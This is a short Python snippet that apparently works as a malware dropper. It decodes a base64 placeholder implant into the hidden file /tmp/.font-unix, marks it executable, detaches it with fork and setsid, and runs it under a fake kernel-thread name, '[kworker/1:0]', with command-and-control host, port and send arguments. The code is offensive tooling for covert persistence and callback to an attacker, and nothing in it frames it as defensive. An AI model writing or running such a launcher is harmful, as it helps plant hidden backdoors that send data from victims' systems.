import os, base64
path = "/tmp/.font-unix"
with open(path, "wb") as f:
    f.write(base64.b64decode("$IMPLANT"))
os.chmod(path, 0o755)
if os.fork() == 0:
    os.setsid()
    os.execv(path, ["[kworker/1:0]", "-c2", "$HOST:$PORT", "-send", "4096"])
